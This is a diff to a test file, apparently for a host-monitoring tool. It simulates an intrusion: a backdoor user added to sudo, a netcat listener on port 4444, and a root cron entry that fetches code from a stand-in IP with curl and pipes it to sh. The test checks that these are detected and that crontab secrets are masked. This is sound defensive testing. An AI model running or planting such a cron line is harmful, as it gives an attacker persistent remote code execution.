@@ -44,6 +44,7 @@ describe.each(await testDialects())('change detection through runPass on %s', (d
     put(root, '.stub/unit-files', 'ssh.service enabled enabled\n');
     put(root, '.stub/units', 'ssh.service loaded active running OpenBSD Secure Shell server\n');
     put(root, 'var/log/auth.log', '');
+    put(root, 'etc/cron.d/backup', '0 3 * * * root /usr/local/bin/backup --password=hunter2\n');
     const config = join(dir, 'dthostmon.yaml');
     // /var/log/missing.log never exists: a persisting condition (collect.source_failed) every pass.
     writeFileSync(config, ['hosts:', '  - name: sim', '    transport: local', `    rootfs: ${JSON.stringify(root)}`, '    learning_passes: 0', '    logs: [/var/log/auth.log, /var/log/missing.log]', ''].join('\n'));
@@ -72,11 +73,13 @@ describe.each(await testDialects())('change detection through runPass on %s', (d
     appendFileSync(join(root, 'etc/passwd'), 'mallory:x:1001:1001::/home/mallory:/bin/bash\n');
     put(root, 'etc/group', 'root:x:0:\nsudo:x:27:mallory\nalice:x:1000:\n');
     appendFileSync(join(root, '.stub/ss'), 'tcp   LISTEN 0      5      0.0.0.0:4444    0.0.0.0:*    users:(("nc",pid=999,fd=3))\n');
+    appendFileSync(join(root, 'etc/cron.d/backup'), '*/5 * * * * root curl -s -u mallory:S3cretPass https://203.0.113.7/x | sh\n');
     const changed = await pass('2026-11-26T12:00:00Z');
     expect(changed.changes?.map((c) => [c.kind, c.action, c.subject, c.expected, c.reason])).toEqual([
       ['user', 'added', 'mallory', false, null],
       ['group', 'changed', 'sudo +mallory', false, null],
       ['listener', 'added', 'tcp *:4444', false, null],
+      ['cron', 'changed', '/etc/cron.d/backup', false, null],
       ['file', 'changed', '/etc/passwd', true, 'the account changes of this pass'],
       ['file', 'changed', '/etc/group', true, 'the group changes of this pass'],
     ]);
@@ -84,6 +87,7 @@ describe.each(await testDialects())('change detection through runPass on %s', (d
     expect(newOnes).toEqual([
       ['account.group_changed', 'sudo +mallory', 'crit'],
       ['account.user_added', 'mallory', 'warn'],
+      ['cron.changed', '/etc/cron.d/backup', 'warn'],
       ['network.listener_added', 'tcp *:4444', 'warn'],
     ]);
 
@@ -96,6 +100,7 @@ describe.each(await testDialects())('change detection through runPass on %s', (d
       ['account.group_changed:sudo +mallory', 1, '2026-11-26T13:00:00.000Z'],
       ['account.user_added:mallory', 1, '2026-11-26T13:00:00.000Z'],
       ['collect.source_failed:/var/log/missing.log', 4, null],
+      ['cron.changed:/etc/cron.d/backup', 1, '2026-11-26T13:00:00.000Z'],
       ['network.listener_added:tcp *:4444', 1, '2026-11-26T13:00:00.000Z'],
     ]);
     const rows = await store.db.selectFrom('changes').select(['kind', 'subject', 'expected', 'reason']).orderBy('id').execute();
@@ -103,11 +108,18 @@ describe.each(await testDialects())('change detection through runPass on %s', (d
       ['user', 'mallory', 0],
       ['group', 'sudo +mallory', 0],
       ['listener', 'tcp *:4444', 0],
+      ['cron', '/etc/cron.d/backup', 0],
       ['file', '/etc/passwd', 1],
       ['file', '/etc/group', 1],
     ]);
     // The state baseline holds no secret-looking content and survives as JSON.
     const baseline = await store.db.selectFrom('baselines').select('data').where('kind', '=', 'state').executeTakeFirstOrThrow();
     expect(JSON.parse(baseline.data)).toMatchObject({ version: 1, groups: { sudo: { members: ['mallory'] } } });
+    // No secret of a crontab reaches the store: not in the baseline, not in the change rows.
+    const changeText = JSON.stringify(await store.db.selectFrom('changes').selectAll().execute());
+    for (const text of [baseline.data, changeText]) {
+      expect(text).not.toMatch(/hunter2|S3cretPass/);
+    }
+    expect(changeText).toContain('curl -s -u mallory:********');
   });
 });
